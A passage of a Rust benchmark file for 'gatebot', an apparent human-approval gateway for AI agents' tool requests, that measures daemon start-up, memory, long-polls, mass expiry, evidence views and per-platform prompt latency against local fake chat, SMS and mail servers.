        .filter_map(|c| c.parse::<u32>().ok())
        .find(|c| {
            std::fs::read_to_string(format!("/proc/{c}/comm"))
                .is_ok_and(|n| n.starts_with("gatebot"))
        })
}

/// Starts the release/bench binary and times until the control socket answers.
async fn start_binary(dir: &Path) -> (Daemon, Duration) {
    let bin = std::env::var("GATEBOT_BENCH_BIN")
        .unwrap_or_else(|_| env!("CARGO_BIN_EXE_gatebot").to_string());
    let wrap = std::env::var("GATEBOT_BENCH_WRAP").unwrap_or_default();
    let mut words = wrap.split_whitespace();
    let mut command = match words.next() {
        Some(wrapper) => {
            let mut c = tokio::process::Command::new(wrapper);
            c.args(words).arg(&bin);
            c
        }
        None => tokio::process::Command::new(&bin),
    };
    let start = Instant::now();
    let child = command
        .args(["run", "--config"])
        .arg(dir.join("bot.toml"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let owner = Client::new(dir.join("gatebot-control.sock"));
    loop {
        if owner.get("/v1/health").await.is_ok() {
            let took = start.elapsed();
            let own = child.id().unwrap();
            let wrapped = !wrap.trim().is_empty();
            let pid = if wrapped {
                gatebot_child(own).unwrap_or(own)
            } else {
                own
            };
            return (
                Daemon {
                    child,
                    pid,
                    wrapped,
                },
                took,
            );
        }
        still_waiting(start, "the daemon's control socket");
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
}

async fn daemon() {
    println!("\n## the daemon process: start time and memory");
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("bot.toml"),
        "[agents.bench]\ntier = \"supervised\"\n",
    )
    .unwrap();
    let (child, took) = start_binary(dir.path()).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let idle = rss_kib(child.pid);
    println!(
        "start to first answer, empty database:   {took:>9.2?}   RSS idle: {:>7} KiB",
        idle
    );
    child.stop().await;

    // 100 000 pending requests, written straight into the database first, each with
    // the subject row the store writes beside a request that asks a human.
    seed_pending(&dir.path().join("gatebot.db"), 1, 100_000);
    start_and_list(dir.path(), "100 000").await;

    // The same 100 000, now with a Telegram chat to show them in: one digest.
    let fake = FakeTelegram::start(TG_TOKEN).await;
    fake.enforce_limits();
    std::fs::write(
        dir.path().join("bot.toml"),
        format!(
            "[agents.bench]\ntier = \"supervised\"\n[telegram]\ntoken = \"{TG_TOKEN}\"\n\
             api_url = \"{}\"\nchats = [7001]\napprovers = [42]\n",
            fake.url
        ),
    )
    .unwrap();
    let _ = std::fs::remove_file(dir.path().join("gatebot.sock"));
    let _ = std::fs::remove_file(dir.path().join("gatebot-control.sock"));
    let (child, took) = start_binary(dir.path()).await;
    let t = Instant::now();
    while fake.posted().is_empty() {
        still_waiting(t, "a post to the fake Telegram");
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let posted = t.elapsed();
    // Let the digest be recorded (every request's card and `prompted` audit row, read
    // from a connection of our own), then measure.
    let db = rusqlite::Connection::open_with_flags(
        dir.path().join("gatebot.db"),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    db.busy_timeout(Duration::from_secs(5)).unwrap();
    let recorded = || -> (i64, i64) {
        let count = |sql: &str| -> i64 { db.query_row(sql, [], |r| r.get(0)).unwrap_or(0) };
        (
            count("SELECT COUNT(*) FROM cards WHERE message IS NOT NULL"),
            count("SELECT COUNT(*) FROM audit WHERE event = 'prompted'"),
        )
    };
    while recorded() != (100_000, 100_000) {
        still_waiting(t, "the digest's bookkeeping");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let bookkept = t.elapsed();
    tokio::time::sleep(Duration::from_millis(500)).await;
    println!(
        "start with Telegram and 100 000 pending: {took:>9.2?}; all shown by one digest {posted:.2?} later \
         ({} message, {} 429s), recorded with their audit rows {bookkept:.2?} after start; RSS: {} KiB",
        fake.posted().len(),
        fake.rate_limited(),
        rss_kib(child.pid)
    );
    child.stop().await;

    // A million pending, without a chat: what a start and the first page cost at scale.
    seed_pending(&dir.path().join("gatebot.db"), 100_001, 1_000_000);
    std::fs::write(
        dir.path().join("bot.toml"),
        "[agents.bench]\ntier = \"supervised\"\n",
    )
    .unwrap();
    start_and_list(dir.path(), "1 000 000").await;
}

/// Starts the daemon in `dir` on the database as it is (`pending` requests waiting) and
/// prints how long it took to answer, its RSS, and the first page of `pending` (the
/// CLI's `pending` is capped at 1000) with its time and the RSS after.
async fn start_and_list(dir: &Path, pending: &str) {
    let _ = std::fs::remove_file(dir.join("gatebot.sock"));
    let _ = std::fs::remove_file(dir.join("gatebot-control.sock"));
    let (child, took) = start_binary(dir).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    println!(
        "start to first answer, {pending} pending: {took:>9.2?}   RSS: {:>7} KiB",
        rss_kib(child.pid)
    );
    let owner = Client::new(dir.join("gatebot-control.sock"));
    let t = Instant::now();
    let res = owner.get("/v1/requests?status=pending").await.unwrap();
    println!(
        "list pending (first {}), {pending} pending: {:>9.2?}   RSS after: {:>7} KiB",
        res.body["requests"].as_array().map_or(0, Vec::len),
        t.elapsed(),
        rss_kib(child.pid)
    );
    child.stop().await;
}

/// Writes pending requests `from..=to` of agent `bench` straight into the database at
/// `db`, each with the subject row the store writes beside a request that asks a human
/// (the evidence summaries' triggers count them, as for every request).
fn seed_pending(db: &Path, from: u64, to: u64) {
    let db = rusqlite::Connection::open(db).unwrap();
    db.execute_batch(&format!(
        "BEGIN;
         WITH RECURSIVE n(i) AS (SELECT {from} UNION ALL SELECT i + 1 FROM n WHERE i < {to})
         INSERT INTO approvals (id, short_id, agent, tool, args, status, risk_score, tool_class,
             risk_factors, policy_reason, ttl_ms, created_at, expires_at)
         SELECT printf('01BENCH%019d', i), printf('b%07d', i), 'bench', 'send_email',
             '{{\"to\":\"a@example.com\",\"body\":\"hello there, a typical short email body\"}}',
             'pending', 'high', 'destructive', '[]', 'bench', 86400000,
             CAST(strftime('%s','now') AS INTEGER) * 1000,
             CAST(strftime('%s','now') AS INTEGER) * 1000 + 86400000 + i
         FROM n;
         INSERT INTO subjects (id, kind, short_id, open, revision, created_at)
             SELECT id, 'approval', short_id, 1, 'pending', created_at FROM approvals
             WHERE id LIKE '01BENCH%' AND id NOT IN (SELECT id FROM subjects);
         COMMIT;"
    ))
    .unwrap();
}

/// The `gatebot_connections{listener="agents"}` gauge, read from the control socket.
async fn agents_connections(owner: &Client) -> u64 {
    let mut open = 0;
    let _ = owner
        .get_lines("/metrics", |line| {
            let line = std::str::from_utf8(line).unwrap_or("");
            match line.strip_prefix("gatebot_connections{listener=\"agents\"} ") {
                Some(n) => {
                    open = n.trim().parse().unwrap_or(0);
                    std::ops::ControlFlow::Break(())
                }
                None => std::ops::ControlFlow::Continue(()),
            }
        })
        .await;
    open
}

/// 10 000 agents' long-polls (`GET /v1/requests/{id}?wait=…`, each on its own
/// connection to the agents' socket, as `gatebot ask` and the hooks make them) held
/// by the daemon as a process: its RSS before and while they wait, per poll; then
/// every request decided, and every poll checked for its answer.
async fn longpolls() {
    const AGENTS: usize = 10;
    const POLLS: usize = 10_000;
    println!("\n## {POLLS} concurrent long-polls: the daemon process's memory");
    // This process holds the client end of every poll.
    let files = gatebot::serve::raise_open_file_limit().unwrap_or(0);
    if files < (POLLS + 1_000) as u64 {
        println!("skipped: the open-file limit is {files} (ulimit -Hn), {POLLS} polls need more");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let per_agent = POLLS / AGENTS + 100;
    let mut config = format!(
        "[queue]\nmax_connections = {}\nmax_connections_per_agent = {per_agent}\n\
         max_waits_per_agent = {per_agent}\n[limits]\nrequests = \"1000000/min\"\n",
        POLLS + 1_000
    );
    for a in 0..AGENTS {
        config.push_str(&format!("[agents.lp{a}]\ntier = \"supervised\"\n"));
    }
    std::fs::write(dir.path().join("bot.toml"), config).unwrap();
    let (child, _) = start_binary(dir.path()).await;
    let pid = child.pid;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let idle = rss_kib(pid);
    let socket = dir.path().join("gatebot.sock");
    let owner = Client::new(dir.path().join("gatebot-control.sock"));

    // The requests, each asking a human.
    let mut submitters = Vec::new();
    for a in 0..AGENTS {
        let client = Client::new(&socket);
        submitters.push(tokio::spawn(async move {
            let mut ids = Vec::new();
            for i in 0..POLLS / AGENTS {
                let res = client
                    .post(
                        "/v1/requests",
                        &json!({"agent": format!("lp{a}"), "tool": "send_email",
                                "args": {"to": "a@example.com", "n": i}}),
                    )
                    .await
                    .unwrap();
                assert_eq!(res.body["status"], "pending", "{:?}", res.body);
                ids.push(res.body["id"].as_str().unwrap().to_string());
            }
            ids
        }));
    }
    let mut ids = Vec::new();
    for s in submitters {
        ids.extend(s.await.unwrap());
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let before = rss_kib(pid);

    // The long-polls, 500 at a time (more at once than the socket's listen backlog
    // would be refused), each batch in place before the next.
    let t = Instant::now();
    let mut polls = Vec::with_capacity(POLLS);
    for batch in ids.chunks(500) {
        for id in batch {
            let client = Client::new(&socket);
            let path = format!("/v1/requests/{id}?wait=300");
            polls.push(tokio::spawn(async move { client.get(&path).await }));
        }
        let since = Instant::now();
        while agents_connections(&owner).await < polls.len() as u64 {
            still_waiting(since, "the long-polls' connections");
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    }
    let opened = t.elapsed();
    // Settled: the polls' requests read and their waits in place.
    let mut waiting = rss_kib(pid);
    loop {
        tokio::time::sleep(Duration::from_millis(500)).await;
        let now = rss_kib(pid);
        if now.abs_diff(waiting) * 100 <= waiting {
            waiting = waiting.max(now);
            break;
        }
        waiting = now;
    }
    let per_poll = (waiting.saturating_sub(before)) as f64 * 1024.0 / POLLS as f64;
    println!(
        "RSS idle {idle} KiB; with {POLLS} pending {before} KiB; with {POLLS} long-polls \
         waiting {waiting} KiB ({:.1} MiB, {per_poll:.0} B a poll; {POLLS} connections in {opened:.2?})",
        waiting as f64 / 1024.0
    );

    // Every request decided by an owner; every poll must come back approved.
    let t = Instant::now();
    let mut deciders = Vec::new();
    for chunk in ids.chunks(POLLS / 4) {
        let owner = owner.clone();
        let chunk = chunk.to_vec();
        deciders.push(tokio::spawn(async move {
            for id in chunk {
                let res = owner
                    .post(
                        &format!("/v1/requests/{id}/decision"),
                        &json!({"decision": "approve"}),
                    )
                    .await
                    .unwrap();
                assert!(res.status.is_success(), "{:?}", res.body);
            }
        }));
    }
    for d in deciders {
        d.await.unwrap();
    }
    let decided = t.elapsed();
    let mut approved = 0;
    for p in polls {
        let res = p.await.unwrap().unwrap();
        if res.body["status"] == "approved" {
            approved += 1;
        }
    }
    println!(
        "{POLLS} decided in {decided:.2?}; every poll answered after {:.2?}: {approved} of \
         {POLLS} approved; RSS after: {} KiB",
        t.elapsed(),
        rss_kib(pid)
    );
    assert_eq!(approved, POLLS, "every long-poll gets its answer");
    child.stop().await;
}

/// 200 000 pending requests with one deadline (written straight into the database,
/// as the daemon section writes its 100 000), the daemon as a process, and one agent
/// submitting sequentially throughout: its submits' latency before the deadline
/// (alone) and while the daemon expires them all, and how long that takes.
async fn expiry() {
    const N: i64 = 200_000;
    println!("\n## {N} requests expiring at the same instant, beside one agent's submits");
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("bot.toml"),
        "[tools]\nquery_org_data = \"read-only\"\n[limits]\nrequests = \"1000000/min\"\n\
         [agents.bench]\ntier = \"supervised\"\n[agents.probe]\ntier = \"semi_autonomous\"\n",
    )
    .unwrap();
    // A first start makes the database.
    let (child, _) = start_binary(dir.path()).await;
    child.stop().await;
    let _ = std::fs::remove_file(dir.path().join("gatebot.sock"));
    let _ = std::fs::remove_file(dir.path().join("gatebot-control.sock"));

    let lead = Duration::from_secs(12);
    let deadline = Instant::now() + lead;
    let deadline_ms = gatebot::time::now_ms() + lead.as_millis() as i64;
    let db_path = dir.path().join("gatebot.db");
    let db = rusqlite::Connection::open(&db_path).unwrap();
    db.execute_batch(&format!(
        "BEGIN;
         WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {N})
         INSERT INTO approvals (id, short_id, agent, tool, args, status, risk_score, tool_class,
             risk_factors, policy_reason, ttl_ms, created_at, expires_at)
         SELECT printf('01BENCH%019d', i), printf('b%07d', i), 'bench', 'send_email',
             '{{\"to\":\"a@example.com\",\"body\":\"hello there, a typical short email body\"}}',
             'pending', 'high', 'destructive', '[]', 'bench', 600000,
             {deadline_ms} - 600000, {deadline_ms}
         FROM n;
         INSERT INTO subjects (id, kind, short_id, open, revision, created_at)
             SELECT id, 'approval', short_id, 1, 'pending', created_at FROM approvals
             WHERE id LIKE '01BENCH%';
         COMMIT;"
    ))
    .unwrap();
    drop(db);
    let (child, _) = start_binary(dir.path()).await;
    let pid = child.pid;

    // When the last of them is expired, watched from a connection of our own.
    let watcher = tokio::task::spawn_blocking(move || {
        let db = rusqlite::Connection::open_with_flags(
            &db_path,
            rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
        )
        .unwrap();
        db.busy_timeout(Duration::from_secs(5)).unwrap();
        std::thread::sleep(deadline.saturating_duration_since(Instant::now()));
        loop {
            let left: Option<i64> = db
                .query_row(
                    "SELECT 1 FROM approvals WHERE status = 'pending' AND agent = 'bench' LIMIT 1",
                    [],
                    |r| r.get(0),
                )
                .ok();
            if left.is_none() {
                return Instant::now();
            }
            still_waiting(deadline, "the mass expiry");
            std::thread::sleep(Duration::from_millis(20));
        }
    });

    let client = Client::new(dir.path().join("gatebot.sock"));
    let mut samples: Vec<(Instant, Duration)> = Vec::new();
    let mut done: Option<Instant> = None;
    let mut i = 0u64;
    let mut watcher = Some(watcher);
    loop {
        let body = json!({"agent": "probe", "tool": "query_org_data",
            "args": {"q": format!("contacts in Berlin {i}")}});
        i += 1;
        let t = Instant::now();
        let res = client.post("/v1/requests", &body).await.unwrap();
        assert_eq!(res.body["status"], "allowed", "{:?}", res.body);
        samples.push((t, t.elapsed()));
        if let Some(w) = watcher.as_ref() {
            if w.is_finished() {
                done = Some(watcher.take().unwrap().await.unwrap());
            }
        }
        if done.is_some_and(|d| d.elapsed() > Duration::from_secs(1)) {
            break;
        }
    }
    let done = done.unwrap();
    let rss = rss_kib(pid);
    child.stop().await;
    // Alone: from a second after start to the deadline; during: while they expire.
    let first = samples[0].0 + Duration::from_secs(1);
    let mut alone: Vec<Duration> = samples
        .iter()
        .filter(|(t, _)| *t >= first && *t + Duration::from_millis(100) < deadline)
        .map(|(_, d)| *d)
        .collect();
    let mut during: Vec<Duration> = samples
        .iter()
        .filter(|(t, _)| *t >= deadline && *t < done)
        .map(|(_, d)| *d)
        .collect();
    alone.sort();
    during.sort();
    let line = |what: &str, l: &[Duration]| {
        println!(
            "submits {what:<22} p50 {:>9.2?}  p99 {:>9.2?}  max {:>9.2?}  ({} submits)",
            percentile(l, 0.5),
            percentile(l, 0.99),
            l.last().copied().unwrap_or_default(),
            l.len()
        );
    };
    line("alone", &alone);
    line("during the mass expiry", &during);
    println!(
        "all {N} expired {:.2?} after their deadline; ratio during/alone p50 {:.2} p99 {:.2}; \
         RSS after: {rss} KiB",
        done - deadline,
        percentile(&during, 0.5).as_secs_f64() / percentile(&alone, 0.5).as_secs_f64(),
        percentile(&during, 0.99).as_secs_f64() / percentile(&alone, 0.99).as_secs_f64(),
    );
}

const TG_TOKEN: &str = "424242:AAE-bench-token-for-the-fake_0123456789";
const OWNER: User = (42, "Owner");

/// A daemon whose Telegram channel talks to `fake`, posting to `chats`.
async fn spawn_with_telegram(fake: &FakeTelegram, chats: &[i64], agents: &str) -> Running {
    let chats: Vec<String> = chats.iter().map(i64::to_string).collect();
    spawn(&format!(
        "{agents}\n[telegram]\ntoken = \"{TG_TOKEN}\"\napi_url = \"{}\"\nchats = [{}]\napprovers = [42]\n",
        fake.url,
        chats.join(", ")
    ))
    .await
}

/// Waits (polling every millisecond) until the fake holds a prompt for `short_id` in
/// `chat`; returns its message id.
async fn prompt_arrives(fake: &FakeTelegram, chat: i64, short_id: &str) -> (i64, Instant) {
    let since = Instant::now();
    loop {
        // When the fake received it, not when this loop looked (it looks every 1–2 ms).
        if let Some(call) = fake.prompt_calls(Some(chat), short_id).first() {
            return (call.message_id.unwrap(), call.at);
        }
        still_waiting(since, "a prompt at the fake Telegram");
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
}

/// E-mail: submit → the mail accepted by a fake SMTP server on loopback, as a ratio to
/// one mail sent straight to the same server with the same SMTP client (lettre), in the
/// same run: what gatebot adds (the store, delivery, a sign-in link, rendering).
async fn email() {
    use lettre::{AsyncSmtpTransport, AsyncTransport, Message, Tokio1Executor};
    println!("\n## e-mail, against a fake SMTP server on loopback");
    let smtp = fake_smtp::FakeSmtp::start().await;
    let samples = 20;
    // The baseline: a bare SMTP transaction with lettre.
    let mailer = AsyncSmtpTransport::<Tokio1Executor>::builder_dangerous("127.0.0.1")
        .port(smtp.port)
        .build();
    let mut bare = Vec::new();
    for i in 0..samples {
        let m = Message::builder()
            .from("gatebot <gatebot@example.com>".parse().unwrap())
            .to("base@example.com".parse().unwrap())
            .subject(format!("baseline {i}"))
            .body(String::from("a line of text"))
            .unwrap();
        let t = Instant::now();
        mailer.send(m).await.unwrap();
        bare.push(t.elapsed());
    }
    let run = spawn(&format!(
        "[agents.bench]\ntier = \"supervised\"\n{}",
        smtp.config(&["owner@example.com"])
    ))
    .await;
    let client = Client::new(&run.agent);
    let mut to_mail = Vec::new();
    for i in 0..samples {
        let t = Instant::now();
        let res = client
            .post(
                "/v1/requests",
                &json!({"agent": "bench", "tool": "send_email", "args": {"n": i}}),
            )
            .await
            .unwrap();
        let short = res.body["short_id"].as_str().unwrap().to_string();
        let since = Instant::now();
        loop {
            let arrived = smtp.to("owner@example.com").iter().any(|m| {
                m.header("Subject")
                    .is_some_and(|s| s.contains(short.as_str()))
            });
            if arrived {
                break;
            }
            still_waiting(since, "a mail at the fake SMTP server");
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
        to_mail.push(t.elapsed());
        // Past the pace of one mail a second per address.
        tokio::time::sleep(Duration::from_millis(1100)).await;
    }
    bare.sort();
    to_mail.sort();
    let (b50, m50, m99) = (
        percentile(&bare, 0.5),
        percentile(&to_mail, 0.5),
        percentile(&to_mail, 0.99),
    );
    println!("one bare SMTP send (baseline, {samples}):         p50 {b50:>9.2?}");
    println!(
        "submit -> mail at the fake SMTP ({samples} requests): p50 {m50:>9.2?}  p99 {m99:>9.2?}  \
         ({:.1}x the bare send at p50)",
        m50.as_secs_f64() / b50.as_secs_f64()
    );
    run.stop.send(()).unwrap();
    run.task.await.unwrap().unwrap();
}

/// Submit → prompt at each platform's fake on loopback (Telegram's is in `chat`,
/// e-mail's in `email`), as a ratio to one HTTP round trip to the same fake in the same
/// run: what gatebot adds between an agent's request and the platform's API.
async fn platforms() {
    println!("\n## submit -> prompt, per platform, against each one's fake on loopback");
    println!("(ratio: to one bare HTTP round trip to the same fake, p50)");
    let agents = "[agents.bench]\ntier = \"supervised\"\n";

    let slack = fake_slack::FakeSlack::start().await;
    let run = spawn(&format!("{agents}{}", slack.config())).await;
    let base = slack.api_url.trim_end_matches("/api").to_string();
    to_prompt("Slack", &run, &base, |short| {
        !slack.stored("C1", short).is_empty()
    })
    .await;
    run.stop.send(()).unwrap();
    run.task.await.unwrap().unwrap();

    let twilio = fake_twilio::FakeTwilio::start().await;
    let run = spawn(&format!("{agents}{}", twilio.config())).await;
    let base = format!("http://{}", twilio.api);
    to_prompt("SMS (Twilio)", &run, &base, |short| {
        !twilio.sent_to(fake_twilio::OWNER, short).is_empty()
    })
    .await;
    run.stop.send(()).unwrap();
    run.task.await.unwrap().unwrap();

    // WhatsApp: within the owner's 24-hour window (they wrote first), so a card goes.
    let whatsapp = fake_whatsapp::FakeWhatsApp::start().await;
    let run = spawn(&format!("{agents}{}", whatsapp.config())).await;
    let owner = fake_whatsapp::OWNER;
    assert_eq!(whatsapp.text(owner, "/help").await, 200);
    let since = Instant::now();
    while !whatsapp.sent().iter().any(|s| s.to == owner) {
        still_waiting(since, "gatebot's answer at the fake WhatsApp");
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    let base = format!("http://{}", whatsapp.api);
    to_prompt("WhatsApp", &run, &base, |short| {
        !whatsapp.sent_to(owner, short).is_empty()
    })
    .await;
    run.stop.send(()).unwrap();
    run.task.await.unwrap().unwrap();

    let discord = fake_discord::FakeDiscord::start().await;
    let run = spawn(&format!("{agents}{}", discord.config())).await;
    discord.ready().await;
    let base = format!("http://{}", discord.api);
    to_prompt("Discord", &run, &base, |short| {
        !discord.posted(fake_discord::CHANNEL, short).is_empty()
    })
    .await;
    run.stop.send(()).unwrap();
    run.task.await.unwrap().unwrap();
}

/// Submits while owners read: an agent with 1 000 000 requests behind it, and its trust
/// view (`gatebot agent NAME`: its evidence, from the running summaries) read by 4
/// owners in a loop, while another agent submits one request at a time. Views read on
/// connections of their own, so the submits' latency should be that of submits alone,
/// taken first in the same run. Beside it: the same view's evidence counted over every
/// request (the recount, `gatebot agents recount --check`), and `gatebot agents` with
/// 10 agents.
async fn views() {
    println!("\n## submits while owners read an agent's evidence over 1 000 000 requests");
    let mut config = "[tools]\nquery_org_data = \"read-only\"\n\
                      [agents.bench]\ntier = \"semi_autonomous\"\n[agents.busy]\ntier = \"supervised\"\n"
        .to_string();
    for i in 1..=8 {
        config.push_str(&format!("[agents.other{i}]\ntier = \"supervised\"\n"));
    }
    let run = spawn(&config).await;
    let dir = run._dir.path().to_path_buf();
    let db = rusqlite::Connection::open(dir.join("gatebot.db")).unwrap();
    db.busy_timeout(Duration::from_secs(60)).unwrap();
    let t = Instant::now();
    // Through the triggers, as the daemon writes every request (its summaries were
    // built at start, on an empty database), spread over the last 30 days.
    db.execute_batch(
        "BEGIN;
         WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000000)
         INSERT INTO approvals (id, short_id, agent, tool, args, status, risk_score, tool_class,
             risk_factors, policy_reason, ttl_ms, created_at, expires_at, confidence,
             low_confidence)
         SELECT printf('01VIEWS%019d', i), printf('v%07d', i), 'busy', 'send_email', '{}',
             CASE i % 4 WHEN 0 THEN 'approved' WHEN 1 THEN 'rejected' ELSE 'succeeded' END,
             'high', 'destructive', '[]', 'bench', 86400000,
             CAST(strftime('%s','now') AS INTEGER) * 1000 - i * 2592,
             CAST(strftime('%s','now') AS INTEGER) * 1000 - i * 2592 + 86400000,
             (i % 10) / 10.0, i % 10 < 2
         FROM n;
         WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 80000)
         INSERT INTO approvals (id, short_id, agent, tool, args, status, risk_score, tool_class,
             risk_factors, policy_reason, ttl_ms, created_at, expires_at, low_confidence)
         SELECT printf('01OTHER%019d', i), printf('o%07d', i), 'other' || (i % 8 + 1),
             'send_email', '{}', CASE i % 3 WHEN 0 THEN 'approved' ELSE 'rejected' END,
             'high', 'destructive', '[]', 'bench', 86400000,
             CAST(strftime('%s','now') AS INTEGER) * 1000 - i * 32400,
             CAST(strftime('%s','now') AS INTEGER) * 1000 - i * 32400 + 86400000, 0
         FROM n;
         COMMIT;",
    )
    .unwrap();
    drop(db);
    println!(
        "1 000 000 requests of `busy` and 80 000 of 8 others (30 days) written through the \
         summaries' triggers in {:.1?}",
        t.elapsed()
    );
    let owner = Client::new(dir.join("gatebot-control.sock"));
    let mut one = Vec::new();
    for _ in 0..20 {
        let t = Instant::now();
        let view = owner.get("/v1/agents/busy/trust").await.unwrap();
        assert!(view.status.is_success(), "{:?}", view.body);
        one.push(t.elapsed());
    }
    one.sort();
    // The floor: the same view of an agent with no requests yet.
    let mut empty = Vec::new();
    for _ in 0..20 {
        let t = Instant::now();
        let view = owner.get("/v1/agents/bench/trust").await.unwrap();
        assert!(view.status.is_success(), "{:?}", view.body);
        empty.push(t.elapsed());
    }
    empty.sort();
    let mut all = Vec::new();
    for _ in 0..20 {
        let t = Instant::now();
        let list = owner.get("/v1/agents").await.unwrap();
        assert!(list.status.is_success(), "{:?}", list.body);
        assert_eq!(list.body["agents"].as_array().map(Vec::len), Some(10));
        all.push(t.elapsed());
    }
    all.sort();
    let mut recounts = Vec::new();
    for _ in 0..3 {
        let t = Instant::now();
        let r = owner
            .post("/v1/evidence/recount", &json!({"check": true}))
            .await
            .unwrap();
        assert!(r.status.is_success(), "{:?}", r.body);
        assert_eq!(
            r.body["differed"],
            json!([]),
            "the summaries equal the full count"
        );
        recounts.push(t.elapsed());
    }
    recounts.sort();
    // What a view counted before the summaries: every request of the agent, twice (all
    // time and the 30-day window), with the SQL the store kept as its recount.
    let full = {
        let store = gatebot::bench_internals::Store::open(&dir.join("gatebot.db")).unwrap();
        let window = gatebot::time::now_ms() - 30 * 86_400_000;
        let mut times = Vec::new();
        for _ in 0..3 {
            let t = Instant::now();
            for since in [0, window] {
                let counts = store.evidence_from_requests("busy", since).unwrap();
                assert!(counts.requests > 900_000);
            }
            times.push(t.elapsed());
        }
        times.sort();
        times[1]
    };
    let (v50, recount) = (percentile(&one, 0.5), recounts[1]);
    println!(
        "the full count a view made before (all time and the window over every request of \
         `busy`), median of 3: {full:>9.2?} ({:.0}x one view with summaries)",
        full.as_secs_f64() / v50.as_secs_f64()
    );
    println!(
        "one `agent busy` view (summaries), 20 views: p50 {v50:>9.2?}  max {:>9.2?}",
        one.last().copied().unwrap_or_default()
    );
    println!(
        "the same view of an agent without requests, 20 views: p50 {:>9.2?} (the floor)",
        percentile(&empty, 0.5)
    );
    println!(
        "`gatebot agents`, 10 agents, 20 lists:      p50 {:>9.2?}  max {:>9.2?}",
        percentile(&all, 0.5),
        all.last().copied().unwrap_or_default()
    );
    println!(
        "full recount of 1 080 000 requests (every agent, all time and per hour), median of 3: \
         {recount:>9.2?} ({:.0}x one view)",
        recount.as_secs_f64() / v50.as_secs_f64()
    );

    let agent = Client::new(&run.agent);
    let submits = async |label: &str, n: usize| {
        let mut lat = Vec::with_capacity(n);
        for i in 0..n {
            let body = json!({"agent": "bench", "tool": "query_org_data",
                "args": {"q": format!("{label} {i}")}});
            let t = Instant::now();
            let res = agent.post("/v1/requests", &body).await.unwrap();
            assert!(res.status.is_success());
            lat.push(t.elapsed());
        }
        lat.sort();
        lat
    };
    let alone = submits("alone", 400).await;
    let (a50, a99) = (percentile(&alone, 0.5), percentile(&alone, 0.99));
    println!("400 submits alone:                 p50 {a50:>9.2?}  p99 {a99:>9.2?}");
    // Four owners viewing as fast as they can (each view's HTTP, JSON and reads then share
    // the two cores with the submits: a CPU test), then each one view every 50 ms (80 a
    // second together, far more than people make: what is left is any wait on a lock).
    for (label, pace) in [
        ("in a loop", None),
        ("every 50 ms", Some(Duration::from_millis(50))),
    ] {
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let mut readers = Vec::new();
        for _ in 0..4 {
            let (owner, stop) = (owner.clone(), stop.clone());
            readers.push(tokio::spawn(async move {
                let mut views = 0u32;
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    owner.get("/v1/agents/busy/trust").await.unwrap();
                    views += 1;
                    if let Some(pace) = pace {
                        tokio::time::sleep(pace).await;
                    }
                }
                views
            }));
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
        let read = submits("reading", 400).await;
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        let mut views = 0;
        for r in readers {
            views += r.await.unwrap();
        }
        let (r50, r99) = (percentile(&read, 0.5), percentile(&read, 0.99));
        println!(
            "400 submits, 4 owners viewing {label} ({views} views): p50 {r50:>9.2?}  \
             p99 {r99:>9.2?}  (ratio to alone: p50 {:.2}, p99 {:.2}; max {:>9.2?})",
            r50.as_secs_f64() / a50.as_secs_f64(),
            r99.as_secs_f64() / a99.as_secs_f64(),
            read.last().copied().unwrap_or_default()
        );
    }
    run.stop.send(()).unwrap();
    run.task.await.unwrap().unwrap();
}

/// Times `samples` submits until `arrived(short id)` at a platform's fake, each past the
/// platform's pace, and prints them beside a bare round trip to `base` (a 404).
async fn to_prompt(name: &str, run: &Running, base: &str, arrived: impl Fn(&str) -> bool) {
    use http_body_util::{BodyExt, Empty};
    use hyper::body::Bytes;
    let http = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build_http::<Empty<Bytes>>();
    let uri: hyper::Uri = format!("{base}/bench-baseline").parse().unwrap();
    let mut bare = Vec::new();
    for _ in 0..51 {
        let t = Instant::now();
        let res = http.get(uri.clone()).await.unwrap();
        res.into_body().collect().await.unwrap();
        bare.push(t.elapsed());
    }
    bare.remove(0); // the connection's setup
    let client = Client::new(&run.agent);
    let samples = 15;
    let mut times = Vec::new();
    for i in 0..samples {
        let t = Instant::now();
        let res = client
            .post(
                "/v1/requests",
                &json!({"agent": "bench", "tool": "send_email", "args": {"n": i}}),
            )
            .await
            .unwrap();
        let short = res.body["short_id"].as_str().unwrap().to_string();
        let since = Instant::now();
        while !arrived(&short) {
            still_waiting(since, &format!("a prompt at the fake {name}"));
            tokio::time::sleep(Duration::from_micros(200)).await;
        }
        times.push(t.elapsed());
        // Past each platform's pace in one chat (Slack's is the longest, 1.2 s), so no
        // prompt waits for its turn.
        tokio::time::sleep(Duration::from_millis(1300)).await;
    }
    bare.sort();
    times.sort();
    let (b50, p50, p99) = (
        percentile(&bare, 0.5),
        percentile(&times, 0.5),
        percentile(&times, 0.99),
    );
    println!(
        "{name:<14} submit -> prompt ({samples}): p50 {p50:>9.2?}  p99 {p99:>9.2?}  \
         round trip p50 {b50:>8.2?}  ({:.1}x)",
        p50.as_secs_f64() / b50.as_secs_f64()
    );
}

async fn chat() {
    println!("\n## the Telegram channel, against a fake Bot API on loopback");
